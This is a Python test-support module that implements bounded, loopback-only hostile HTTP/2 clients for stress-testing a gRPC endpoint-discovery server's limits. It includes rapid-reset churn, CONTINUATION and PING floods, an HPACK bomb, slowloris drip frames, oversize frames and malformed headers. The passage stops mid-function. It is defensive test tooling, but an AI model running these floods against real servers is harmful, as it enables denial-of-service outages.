"""Hostile HTTP/2 clients, one per attack docs/limits.md defends against, run as their own process by
hostile/test_clients.py, from the repository:

    python -m tests.support.hostile_clients ATTACK PORT SOURCE_IP SECONDS

Loopback only (the target is 127.0.0.1; SOURCE_IP is another 127.0.0.0/8 address, so per-IP
limits tell the attacker from the canary). Every loop is bounded by SECONDS and by a count.
Prints one JSON line of what the attacker saw.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import signal
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import hpack
from hyperframe.frame import (
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
)

from eds_server.protowire import length_delimited as _field
from tests.support.h2frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    split,
)

STREAM = "/envoy.service.endpoint.v3.EndpointDiscoveryService/StreamEndpoints"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
HOST = "127.0.0.1"
MAX_BYTES = 2 << 30  # no attack sends more than this in total


def headers(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "eds"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


class Conn:
    """One raw HTTP/2 connection from `src`; frames are written as built, nothing is parsed
    unless `read()` is called."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.encoder = hpack.Encoder()
        self.next_id = 1
        self.sent = 0

    @classmethod
    async def open(cls, port: int, src: str) -> Conn:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=(src, 0))
        conn = cls(reader, writer)
        await conn.send(PREFACE)
        return conn

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        self.sent += len(data)
        await asyncio.wait_for(self.writer.drain(), 10)

    def open_stream(self, path: str = STREAM, end: bool = False) -> tuple[int, bytes]:
        sid = self.next_id
        self.next_id += 2
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        return sid, HeadersFrame(sid, data=self.encoder.encode(headers(path)), flags=flags).serialize()

    def closed(self) -> bool:
        return self.writer.is_closing() or self.reader.at_eof()

    def close(self) -> None:
        self.writer.close()


async def flood(
    port: int,
    src: str,
    seconds: float,
    chunk: bytes,
    *,
    setup: bytes = b"",
    connections: int = 1,
    reconnect: bool = True,
) -> dict[str, Any]:
    """Send `chunk` over and over (never reading), reconnecting when the server closes."""
    deadline = time.monotonic() + seconds
    stats = {"connections": 0, "bytes": 0, "closed_by_server": 0}

    async def one() -> None:
        while time.monotonic() < deadline and stats["bytes"] < MAX_BYTES:
            try:
                conn = await Conn.open(port, src)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            stats["connections"] += 1
            try:
                await conn.send(setup)
                while time.monotonic() < deadline and stats["bytes"] < MAX_BYTES:
                    await conn.send(chunk)
                    stats["bytes"] += len(chunk)
                    await asyncio.sleep(0)
            except (OSError, TimeoutError):
                stats["closed_by_server"] += 1
            finally:
                conn.close()
            if not reconnect:
                return
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))
    return stats


def ping_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    ping = PingFrame(0, opaque_data=b"12345678").serialize()
    return flood(port, src, seconds, ping * 1000)


def settings_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    frames = b"".join(SettingsFrame(0, settings={4: 65535 + i % 2}).serialize() for i in range(1000))
    return flood(port, src, seconds, frames)


def priority_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    frames = b"".join(PriorityFrame(2 * i + 1, depends_on=0, stream_weight=15).serialize() for i in range(1000))
    return flood(port, src, seconds, frames)


def unknown_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    frame = b"\x00\x00\x10\x42\x00\x00\x00\x00\x00" + b"x" * 16  # type 0x42, 16 bytes, stream 0
    return flood(port, src, seconds, frame * 1000)


async def reconnecting(port: int, src: str, deadline: float, most: int = 1000) -> AsyncIterator[Conn]:
    """Fresh connections until `deadline`, at most `most`; one refused is tried again 50 ms later."""
    for _ in range(most):
        if time.monotonic() > deadline:
            return
        try:
            conn = await Conn.open(port, src)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        yield conn


def opening(end: bool = False) -> bytes:
    """HEADERS opening stream 1 of a fresh connection."""
    flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
    return HeadersFrame(1, data=hpack.Encoder().encode(headers(STREAM)), flags=flags).serialize()


def empty_data_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    frames = DataFrame(1, data=b"").serialize() * 1000
    return flood(port, src, seconds, frames, setup=opening())


async def churn(port: int, src: str, seconds: float, *, reset: bool, connections: int = 4) -> dict[str, Any]:
    """Streams opened and ended at once (with RST_STREAM, or with END_STREAM and no request)."""
    deadline = time.monotonic() + seconds
    stats = {"connections": 0, "streams": 0, "goaway": 0}

    async def one() -> None:
        async for conn in reconnecting(port, src, deadline, 100_000):
            if stats["streams"] >= 5_000_000:
                conn.close()
                return
            stats["connections"] += 1
            try:
                while time.monotonic() < deadline and conn.next_id < 2**31 - 1000:
                    batch = []
                    for _ in range(100):
                        sid, frame = conn.open_stream(end=not reset)
                        batch.append(frame)
                        if reset:
                            batch.append(RstStreamFrame(sid, error_code=8).serialize())
                    await conn.send(b"".join(batch))
                    stats["streams"] += 100
                    await asyncio.sleep(0)
                    if conn.closed():
                        break
            except (OSError, TimeoutError):
                pass
            finally:
                stats["goaway"] += 1 if conn.closed() else 0
                conn.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))
    return stats


def reset_churn(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    return churn(port, src, seconds, reset=True)


def open_close_churn(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    return churn(port, src, seconds, reset=False)


def data_after_end(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """DATA on a stream the client already ended: h2 answers each with its own RST_STREAM."""
    chunk = DataFrame(1, data=b"x").serialize() * 1000
    return flood(port, src, seconds, chunk, setup=opening(end=True))


async def idle_streams(port: int, src: str, seconds: float) -> dict[str, Any]:
    """Connections full of streams that never send a request (headers only)."""
    deadline = time.monotonic() + seconds
    conns: list[Conn] = []
    stats = {"connections": 0, "refused": 0, "streams": 0}
    try:
        for _ in range(150):  # bounded: more than the per-IP limit
            if time.monotonic() > deadline:
                break
            try:
                conn = await Conn.open(port, src)
            except OSError:
                stats["refused"] += 1
                continue
            conns.append(conn)
            stats["connections"] += 1
            frames = b"".join(conn.open_stream()[1] for _ in range(1000))
            try:
                await conn.send(frames)
                stats["streams"] += 1000
            except (OSError, TimeoutError):
                stats["refused"] += 1
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
        stats["closed_by_server"] = sum(1 for c in conns if c.closed())
    finally:
        for c in conns:
            c.close()
    return stats


def fresh_addresses(src: str, most: int) -> list[str]:
    """`most` loopback addresses none of the other attacks or the canary use: 127.B.x.y, B from
    `src`'s last byte (so two attacks never share one), x and y counting up."""
    b = int(src.rsplit(".", 1)[1])
    return [f"127.{b}.{1 + i // 250}.{1 + i % 250}" for i in range(most)]


async def bursts(
    port: int,
    src: str,
    seconds: float,
    *,
    with_request: bool,
    addresses: int | None = 2000,
    burst: int = 256 * 1024,
    parallel: int = 8,
) -> dict[str, Any]:
    """Connections that each send one burst of `burst` bytes of HEADERS opening streams (and, with
    `with_request`, a small request on each) in one write, then hold still, never reading; from
    fresh addresses (`addresses` of them, one connection each), or all from `src` when None (pooled:
    `parallel` connections at a time). Nothing here breaks a budget on its own: each stream is
    valid. What it costs is the server's time decoding header blocks."""
    deadline = time.monotonic() + seconds
    sources = fresh_addresses(src, addresses) if addresses else [src] * 100_000
    stats = {"connections": 0, "streams": 0, "bytes": 0, "refused": 0, "closed_by_server": 0}
    request = DataFrame(1, data=grpc_message(discovery_request(("attack",)))).serialize()
    held: list[Conn] = []
    lock = asyncio.Lock()

    async def one() -> None:
        while time.monotonic() < deadline and stats["bytes"] < MAX_BYTES:
            async with lock:
                if not sources:
                    return
                address = sources.pop()
            try:
                conn = await asyncio.wait_for(Conn.open(port, address), 5)
            except (OSError, TimeoutError):
                stats["refused"] += 1
                continue
            stats["connections"] += 1
            chunks: list[bytes] = []
            size = 0
            while size < burst and conn.next_id < 2 * 10_000:
                sid, opening = conn.open_stream()
                chunks.append(opening)
                size += len(opening)
                if with_request:
                    data = request[:5] + sid.to_bytes(4, "big") + request[9:]
                    chunks.append(data)
                    size += len(data)
                stats["streams"] += 1
            try:
                await conn.send(b"".join(chunks))
                stats["bytes"] += size
            except (OSError, TimeoutError):
                stats["closed_by_server"] += 1
            held.append(conn)
            if len(held) > 64:  # the oldest go: a burst's harm is in its reading, not in holding
                held.pop(0).close()
            await asyncio.sleep(0.01)

    try:
        await asyncio.gather(*(one() for _ in range(parallel)))
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
        stats["closed_by_server"] += sum(1 for c in held if c.closed())
    finally:
        for c in held:
            c.close()
    return stats


def header_bursts(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """Bursts of HEADERS (256 KiB a connection), each connection from a new address."""
    return bursts(port, src, seconds, with_request=False)


def request_bursts(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """The same with a small request on each stream: every stream gets a handler."""
    return bursts(port, src, seconds, with_request=True)


def pooled_bursts(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """Bursts of HEADERS from one address, 10 connections at a time."""
    return bursts(port, src, seconds, with_request=False, addresses=None, parallel=10)


def window_update_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """WINDOW_UPDATEs of the connection (1 byte each) with a stream open: each may wake its streams."""
    frames = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 1000
    return flood(port, src, seconds, frames, setup=opening())


def continuation_flood(port: int, src: str, seconds: float) -> Awaitable[dict[str, Any]]:
    """A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATION frames
    (the HTTP/2 CONTINUATION flood: a server that buffers the block until it ends never ends it)."""
    block = hpack.Encoder().encode(headers(STREAM))
    start = frame(HEADERS, 0, 1, block)
    return flood(port, src, seconds, frame(CONTINUATION, 0, 1) * 1000, setup=start)


async def hpack_bomb(port: int, src: str, seconds: float, per_block: int = 60) -> dict[str, Any]:
    """Header blocks that decode large: a 4,000-byte header put in the HPACK table once, then named
    by its index (one byte) `per_block` times a block, each block on a new stream: 240 KB of headers
    from a few hundred bytes."""
    deadline = time.monotonic() + seconds
    stats = {"connections": 0, "blocks": 0, "bytes": 0, "closed_by_server": 0}
    bomb = ("x-bomb", "b" * 4000)
    async for conn in reconnecting(port, src, deadline):
        stats["connections"] += 1
        try:
            for _ in range(5000):  # bounded
                if time.monotonic() > deadline or conn.closed():
                    break
                sid = conn.next_id
                conn.next_id += 2
                block = conn.encoder.encode([*headers(STREAM), *[bomb] * per_block])
                raw = frame(HEADERS, END_HEADERS, sid, block)
                await conn.send(raw)
                stats["blocks"] += 1
                stats["bytes"] += len(raw)
                await asyncio.sleep(0)
        except (OSError, TimeoutError):
            pass
        stats["closed_by_server"] += 1
        conn.close()
        await asyncio.sleep(0.01)
    return stats


async def drip_frames(port: int, src: str, seconds: float, connections: int = 50) -> dict[str, Any]:
    """Connections that each begin a DATA frame on a stream with its request sent, and feed it a byte
    every 0.5 s: never complete, never idle, never over a byte budget (slowloris, one frame at a time)."""
    deadline = time.monotonic() + seconds
    stats = {"connections": 0, "bytes": 0, "closed_by_server": 0}
    request = grpc_message(discovery_request(("attack",)))
    conns: list[Conn] = []
    for _ in range(connections):
        try:
            conn = await asyncio.wait_for(Conn.open(port, src), 5)
        except (OSError, TimeoutError):
            continue
        sid, opening = conn.open_stream()
        await conn.send(opening + frame(DATA, 0, sid, request) + frame(DATA, 0, sid, b"\0" * 1000)[:10])
        conns.append(conn)
        stats["connections"] += 1
    for _ in range(int(seconds / 0.5) + 1):  # bounded
        if time.monotonic() > deadline:
            break
        for conn in conns:
            if conn.closed():
                continue
            try:
                await conn.send(b"\0")
                stats["bytes"] += 1
            except (OSError, TimeoutError):
                pass
        await asyncio.sleep(0.5)
    stats["closed_by_server"] = sum(1 for c in conns if c.closed())
    for conn in conns:
        conn.close()
    return stats


async def idle_connections(port: int, src: str, seconds: float) -> dict[str, Any]:
    """Many TCP connections that never send anything."""
    deadline = time.monotonic() + seconds
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    try:
        for _ in range(1000):  # bounded
            if time.monotonic() > deadline:
                break
            try:
                conns.append(await asyncio.open_connection(HOST, port, local_addr=(src, 0)))
            except OSError:
                break
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
        return {"opened": len(conns), "closed_by_server": sum(1 for r, _ in conns if r.at_eof())}
    finally:
        for _, w in conns:
            w.close()


async def partial_messages(
    port: int, src: str, seconds: float, announced: int = 4 * 1024 * 1024 - 6, path: str = STREAM
) -> dict[str, Any]:
    """Streams that announce a big (allowed) message and send all of it but the last byte, as fast
    as the server's flow-control windows let them (an h2 client that reads the WINDOW_UPDATEs)."""
    import h2.config
    import h2.connection
    import h2.exceptions

    deadline = time.monotonic() + seconds
    stats = {"streams": 0, "bytes": 0, "connections": 0}
    body = b"\x00" + announced.to_bytes(4, "big") + b"\x0a" * (announced - 1)

    async def one(n_streams: int) -> None:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=(src, 0))
        stats["connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sent: dict[int, int] = {}
        for i in range(n_streams):
            conn.send_headers(1 + 2 * i, headers(path))
            sent[1 + 2 * i] = 0
            stats["streams"] += 1
        try:
            while time.monotonic() < deadline and stats["bytes"] < MAX_BYTES:
                for sid, pos in sent.items():
                    with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                        room = min(conn.local_flow_control_window(sid), len(body) - pos)
                        while room > 0:
                            n = min(room, conn.max_outbound_frame_size)
                            conn.send_data(sid, body[pos : pos + n])
                            pos += n
                            room -= n
                            stats["bytes"] += n
                        sent[sid] = pos
                writer.write(conn.data_to_send())
                await asyncio.wait_for(writer.drain(), 10)
                try:
                    data = await asyncio.wait_for(reader.read(65536), max(0.01, deadline - time.monotonic()))
                except TimeoutError:
                    break
                if not data:
                    break
                with contextlib.suppress(h2.exceptions.ProtocolError):
                    conn.receive_data(data)
            await asyncio.sleep(max(0.0, deadline - time.monotonic()))  # held until the end
        except (OSError, TimeoutError):
            pass
        finally:
            writer.close()

    await asyncio.gather(*(one(30) for _ in range(5)), return_exceptions=True)  # 150 streams
    return stats


async def big_health_message(port: int, src: str, seconds: float) -> dict[str, Any]:
    """A health Check announcing 1 GiB: refused from its length prefix (the server answers at once)."""
    conn = await Conn.open(port, src)
    sid, opening = conn.open_stream(HEALTH_CHECK)
    await conn.send(opening + DataFrame(sid, data=b"\x00" + (1 << 30).to_bytes(4, "big") + b"\x00" * 16000).serialize())
    stats = await partial_messages(port, src, seconds)
    conn.close()
    return stats


async def health_streams(port: int, src: str, seconds: float) -> dict[str, Any]:
    """Many health Watch streams, each with a valid request, held open."""
    deadline = time.monotonic() + seconds
    conns: list[Conn] = []
    request = b"\x00\x00\x00\x00\x00"  # an empty HealthCheckRequest
    stats = {"streams": 0}
    try:
        for _ in range(40):  # 40 connections x 500 streams
            if time.monotonic() > deadline:
                break
            conn = await Conn.open(port, src)
            conns.append(conn)
            frames = []
            for _ in range(500):
                sid, opening = conn.open_stream(HEALTH_WATCH)
                frames += [opening, DataFrame(sid, data=request).serialize()]
            await conn.send(b"".join(frames))
            stats["streams"] += 500
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
    finally:
        for c in conns:
            c.close()
    return stats


# Attacks on the HTTP/2 layer itself: reassembling big messages, oversize frames, malformed requests.

EDS_TYPE_URL = "type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment"
PROTOCOL_ERROR, FRAME_SIZE_ERROR = 1, 6
OUR_WINDOW = 1 << 30  # the attacker's receive windows: the server never waits on it


def discovery_request(
    names: tuple[str, ...] = ("canary",), *, node: str | None = None, nonce: str = "", padding: int = 0
) -> bytes:
    """A DiscoveryRequest built field by field; `padding` bytes of an unknown field (15, which the
    server skips unread) make it as big as wanted."""
    body = _field(2, _field(1, node.encode()) + _field(2, b"hostile")) if node is not None else b""
    body += b"".join(_field(3, n.encode()) for n in names) + _field(4, EDS_TYPE_URL.encode())
    if nonce:
        body += _field(5, nonce.encode())
    if padding:
        body += _field(15, b"\x00" * padding)
    return body


def grpc_message(body: bytes) -> bytes:
    return b"\x00" + len(body).to_bytes(4, "big") + body


class Watcher:
    """What the server sends on one connection, read in the background: the send windows it
    grants, resets, trailers, response data, GOAWAY. Acknowledges SETTINGS and answers PINGs when
    `answer` (an attacker in the middle of a frame of its own does not)."""

    def __init__(self, conn: Conn, answer: bool = True) -> None:
        self.conn = conn
        self.answer = answer
        self.initial_window = 65535
        self.conn_window = 65535
        self.windows: dict[int, int] = {}  # what each stream may still send, once it sent something
        self.resets: dict[int, int] = {}
        self.trailers: set[int] = set()
        self.data: set[int] = set()  # streams that got response DATA
        self.goaway: int | None = None
        self.goaway_after: int | None = None  # conn.sent when the GOAWAY was read
        self.eof = False
        self.changed = asyncio.Event()
        self.task = asyncio.create_task(self._run())

    def gone_away(self) -> bool:
        return self.goaway is not None

    def window(self, sid: int) -> int:
        return min(self.conn_window, self.windows.get(sid, self.initial_window))

    def spend(self, sid: int, n: int) -> None:
        self.conn_window -= n
        self.windows[sid] = self.windows.get(sid, self.initial_window) - n

    async def wait(self, done: Callable[[], bool], seconds: float) -> bool:
        """Until `done()`, the connection's end or `seconds`: `done()`."""
        end = time.monotonic() + seconds
        for _ in range(100_000):  # bounded
            if done() or self.eof or time.monotonic() >= end:
                break
            self.changed.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.changed.wait(), max(0.001, end - time.monotonic()))
        return done()

    async def _run(self) -> None:
        buffer = b""
        try:
            for _ in range(10_000_000):  # bounded; ends with the connection
                chunk = await self.conn.reader.read(1 << 16)
                if not chunk:
                    break
                frames, buffer = split(buffer + chunk)
                replies = b"".join(self._take(f.type, f.flags, f.stream_id, f.payload) for f in frames)
                if replies and self.answer and not self.conn.closed():
                    self.conn.writer.write(replies)
                self.changed.set()
        except OSError:
            pass
        finally:
            self.eof = True
            self.changed.set()

    def _take(self, ftype: int, flags: int, sid: int, payload: bytes) -> bytes:
        if ftype == SETTINGS and not flags & 1:
            for i in range(0, len(payload), 6):
                if int.from_bytes(payload[i : i + 2], "big") == 4:  # INITIAL_WINDOW_SIZE
                    value = int.from_bytes(payload[i + 2 : i + 6], "big")
                    for s in self.windows:
                        self.windows[s] += value - self.initial_window
                    self.initial_window = value
            return frame(SETTINGS, 1, 0)
        if ftype == PING and not flags & 1:
            return frame(PING, 1, 0, payload)
        if ftype == WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if sid:
                self.windows[sid] = self.windows.get(sid, self.initial_window) + increment
            else:
                self.conn_window += increment
        elif ftype == RST_STREAM:
            self.resets[sid] = int.from_bytes(payload, "big")
        elif ftype == HEADERS and flags & END_STREAM:
            self.trailers.add(sid)
        elif ftype == DATA:
            self.data.add(sid)
        elif ftype == GOAWAY and self.goaway is None:
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.goaway_after = self.conn.sent
        return b""

    async def close(self) -> None:
        self.conn.close()
        self.task.cancel()
        await asyncio.gather(self.task, return_exceptions=True)


async def big_messages_small_frames(
    port: int, src: str, seconds: float, size: int = 4_190_000, piece: int = 1024
) -> dict[str, Any]:
    """On an established StreamEndpoints stream (its first request read the usual way, so its
    further DATA frames take the direct path), valid requests of ~4 MiB (under the default 4 MiB
    message size limit: a stale nonce the server ignores, padded with an unknown field) in DATA
    frames of `piece` bytes, back to back, within the flow-control windows the server grants."""
    deadline = time.monotonic() + seconds
    stats: dict[str, Any] = {
        "messages": 0,
        "bytes": 0,
        "first_response": False,
        "goaway": None,
        "reset": None,
        "trailers": False,
        "stalled": 0,
    }
    conn = await Conn.open(port, src)
    watcher = Watcher(conn)
    sid, opening = conn.open_stream()
    try:
        await conn.send(
            frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + OUR_WINDOW.to_bytes(4, "big"))
            + frame(WINDOW_UPDATE, 0, 0, (OUR_WINDOW - 65535).to_bytes(4, "big"))
        )
        first = grpc_message(discovery_request(node=f"hostile-{src}"))
        watcher.spend(sid, len(first))
        await conn.send(opening + frame(DATA, 0, sid, first))
        stats["first_response"] = await watcher.wait(lambda: sid in watcher.data, 10)
        message = memoryview(grpc_message(discovery_request(nonce="stale", padding=size)))
        frames = [frame(DATA, 0, sid, bytes(message[i : i + piece])) for i in range(0, len(message), piece)]
        batch = 64  # frames per write

        def room() -> bool:
            return watcher.window(sid) >= batch * piece

        while time.monotonic() < deadline and stats["messages"] < 10_000:
            i = 0
            while i < len(frames) and time.monotonic() < deadline:
                if not room() and not await watcher.wait(room, max(0.01, deadline - time.monotonic())):
                    stats["stalled"] += 1
                    break
                chunk = frames[i : i + batch]
                n = sum(len(f) - 9 for f in chunk)
                watcher.spend(sid, n)
                await conn.send(b"".join(chunk))
                stats["bytes"] += n
                i += batch
            if i >= len(frames):
                stats["messages"] += 1
            if watcher.eof or watcher.goaway is not None or sid in watcher.resets or sid in watcher.trailers:
                break
    except (OSError, TimeoutError):
        pass
    finally:
        stats.update(goaway=watcher.goaway, reset=watcher.resets.get(sid), trailers=sid in watcher.trailers)
        await watcher.close()
    return stats


OVERSIZE = (1 << 24) - 1  # the most a frame header can announce (16 MiB): 1,024 times the default 16 KiB limit
ANSWERED_WITHIN = 64 * 1024  # bytes of payload sent by when a GOAWAY FRAME_SIZE_ERROR must have come


async def oversize_frames(port: int, src: str, seconds: float, connections: int = 12) -> dict[str, Any]:
    """Connections that each send the 9-byte header of a 16 MiB frame (HEADERS opening stream 1 on
    half of them, DATA on the others), then its payload: trickled (1 KiB every 10 ms) for the first
    64 KiB, then as fast as the server reads. The server is to answer GOAWAY FRAME_SIZE_ERROR from
    the header, not buffer the 16 MiB first; the attacker reconnects and does it again."""
    deadline = time.monotonic() + seconds
    stats: dict[str, Any] = {
        "connections": 0,
        "goaway": {},
        "unanswered": 0,
        "max_payload_before_goaway": 0,
        "payload_bytes": 0,
    }

    async def one(i: int) -> None:
        ftype, flags = (HEADERS, END_HEADERS) if i % 2 else (DATA, 0)
        async for conn in reconnecting(port, src, deadline):
            stats["connections"] += 1
            watcher = Watcher(conn, answer=False)
            start = conn.sent + 9  # the payload's first byte
            try:
                await conn.send(OVERSIZE.to_bytes(3, "big") + bytes((ftype, flags)) + (1).to_bytes(4, "big"))
                sent = 0
                while sent < OVERSIZE and time.monotonic() < deadline and watcher.goaway is None:
                    n = 1024 if sent < ANSWERED_WITHIN else min(1 << 16, OVERSIZE - sent)
                    await conn.send(b"\x00" * n)
                    sent += n
                    stats["payload_bytes"] += n
                    await asyncio.sleep(0.01 if sent <= ANSWERED_WITHIN else 0)
                await watcher.wait(watcher.gone_away, 1.0)  # a last moment for the answer
            except (OSError, TimeoutError):
                await watcher.wait(watcher.gone_away, 1.0)
            finally:
                await watcher.close()
            if watcher.goaway is None or watcher.goaway_after is None:
                stats["unanswered"] += 1
            else:
                code = str(watcher.goaway)
                stats["goaway"][code] = stats["goaway"].get(code, 0) + 1
                before = max(0, watcher.goaway_after - start)
                stats["max_payload_before_goaway"] = max(stats["max_payload_before_goaway"], before)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one(i) for i in range(connections)))
    return stats


def _without(name: str) -> list[tuple[str, str]]:
    return [(k, v) for k, v in headers(STREAM) if k != name]


# RFC 9113 section 8.2 and 8.3: each makes a request malformed (a stream error PROTOCOL_ERROR).
MALFORMED: dict[str, list[tuple[str, str]]] = {
    "no :path": _without(":path"),
    "no :method": _without(":method"),
    "no :scheme": _without(":scheme"),
    "empty :path": [(k, "" if k == ":path" else v) for k, v in headers(STREAM)],
    "uppercase name": [*headers(STREAM), ("X-Upper", "1")],
    "unknown pseudo-header": [*headers(STREAM), (":foo", "1")],
    "response pseudo-header": [*headers(STREAM), (":status", "200")],
    "duplicated pseudo-header": [*headers(STREAM)[:3], (":path", STREAM), *headers(STREAM)[3:]],
    "pseudo-header after a regular one": [
        *headers(STREAM)[:2],
        ("content-type", "application/grpc"),
        (":path", STREAM),
        (":authority", "eds"),
        ("te", "trailers"),
    ],
    "connection": [*headers(STREAM), ("connection", "keep-alive")],
    "keep-alive": [*headers(STREAM), ("keep-alive", "timeout=5")],
    "proxy-connection": [*headers(STREAM), ("proxy-connection", "keep-alive")],
    "transfer-encoding": [*headers(STREAM), ("transfer-encoding", "chunked")],
    "upgrade": [*headers(STREAM), ("upgrade", "h2c")],
    "te gzip": [*_without("te"), ("te", "gzip")],
}


async def malformed_headers(port: int, src: str, seconds: float, connections: int = 4) -> dict[str, Any]:
    """Streams opened with malformed request headers (MALFORMED, in turn), each waited on for its
    answer (RST_STREAM, or GOAWAY, PROTOCOL_ERROR); after every fourth reset, a valid request on a
    fresh stream of the same connection must still be answered. Reconnects when the server closes.
    Paced (20 malformed streams a second per connection): under the per-IP budget of streams opened,
    which would refuse the valid requests otherwise."""
    deadline = time.monotonic() + seconds
    stats: dict[str, Any] = {
        "sent": 0,
        "reset": {},
        "goaway": {},
        "unanswered": 0,
        "valid_ok": 0,
        "valid_failed": 0,
        "answers": {},
    }
    cases = list(MALFORMED.items())
    turn = 0

    def note(kind: str, code: int, case: str) -> None:
        stats[kind][str(code)] = stats[kind].get(str(code), 0) + 1
        stats["answers"].setdefault(case, f"{kind} {code}")

    async def one() -> None:
        nonlocal turn
        async for conn in reconnecting(port, src, deadline):
            watcher = Watcher(conn)
            try:
                for _ in range(10_000):  # streams, bounded
                    if time.monotonic() > deadline or watcher.eof or watcher.goaway is not None:
                        break
                    case, fields = cases[turn % len(cases)]
                    turn += 1
                    sid = conn.next_id
                    conn.next_id += 2
                    await conn.send(frame(HEADERS, END_HEADERS, sid, conn.encoder.encode(fields)))
                    stats["sent"] += 1
                    if not await watcher.wait(lambda: sid in watcher.resets or watcher.goaway is not None, 2.0):  # noqa: B023
                        stats["unanswered"] += 1
                        stats["answers"].setdefault(case, "none")
                        continue
                    await asyncio.sleep(0.05)
                    if sid in watcher.resets:
                        note("reset", watcher.resets[sid], case)
                        if sum(stats["reset"].values()) % 4:
                            continue
                        valid, opening = conn.open_stream()
                        request = grpc_message(discovery_request(node=f"hostile-{src}"))
                        await conn.send(opening + frame(DATA, 0, valid, request))
                        if await watcher.wait(lambda: valid in watcher.data, 5.0):  # noqa: B023
                            stats["valid_ok"] += 1
                        else:
                            stats["valid_failed"] += 1
                        await conn.send(frame(RST_STREAM, 0, valid, (8).to_bytes(4, "big")))  # CANCEL
                    else:
                        assert watcher.goaway is not None
                        note("goaway", watcher.goaway, case)
            except (OSError, TimeoutError):
                pass
            finally:
                await watcher.close()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(one() for _ in range(connections)))
    return stats


async def fill_table(
    port: int,
    src: str,
    seconds: float,
    addresses: int = 50,
    per_address: int = 8,
    most: int = 5000,
    stopped: asyncio.Event | None = None,
) -> dict[str, Any]:
    """Fill the connection table from `addresses` addresses from `src` up, `per_address` connections
    each, every one with a valid EDS stream (its request sent) and answering every PING, so no budget
    is charged; a connection the server closes is opened again (at most `most` in all). It holds the
    table for `seconds`, or until `stopped` is set (SIGTERM, once the test has seen what it needs)."""
    deadline = time.monotonic() + seconds
    stopped = stopped or asyncio.Event()
    base = src.rsplit(".", 1)
    stats = {"opened": 0, "closed_by_server": 0, "failed": 0, "held_at_end": 0}

    async def hold(ip: str) -> None:
        while time.monotonic() < deadline and stats["opened"] < most and not stopped.is_set():
            try:
                conn = await Conn.open(port, ip)
                _, opening = conn.open_stream()
                await conn.send(opening + frame(DATA, 0, 1, grpc_message(discovery_request(node=f"filler-{ip}"))))
            except (OSError, TimeoutError):
                stats["failed"] += 1
                await asyncio.sleep(0.1)
                continue
            stats["opened"] += 1
            buffer = b""
            try:
                while time.monotonic() < deadline and not stopped.is_set():
                    try:  # a look at `stopped` at least every half second
                        chunk = await asyncio.wait_for(conn.reader.read(65536), min(0.5, deadline - time.monotonic()))
                    except TimeoutError:
                        continue
                    if not chunk:
                        stats["closed_by_server"] += 1
                        break
                    got, buffer = split(buffer + chunk)
                    for f in got:
                        if f.type == PING and not f.flags & 1:
                            await conn.send(frame(PING, 1, 0, f.payload))
                else:
                    stats["held_at_end"] += 1
            except OSError:
                stats["closed_by_server"] += 1
            finally:
                conn.close()
            await asyncio.sleep(0.05)

    ips = [f"{base[0]}.{int(base[1]) + i}" for i in range(addresses)]
    await asyncio.gather(*(hold(ip) for ip in ips for _ in range(per_address)))
    return stats


BIG_GROUP = "big"  # the group slow_readers asks for: the matrix's upstreams hold it for that case


async def slow_readers(
    port: int, src: str, seconds: float, connections: int = 40, streams: int = 100
) -> dict[str, Any]:
    """Connections that open windows of 1 GiB, ask for a big group on every stream, and never read
    a byte: every response the server writes stays with it (in its buffers and the socket's)."""
    deadline = time.monotonic() + seconds
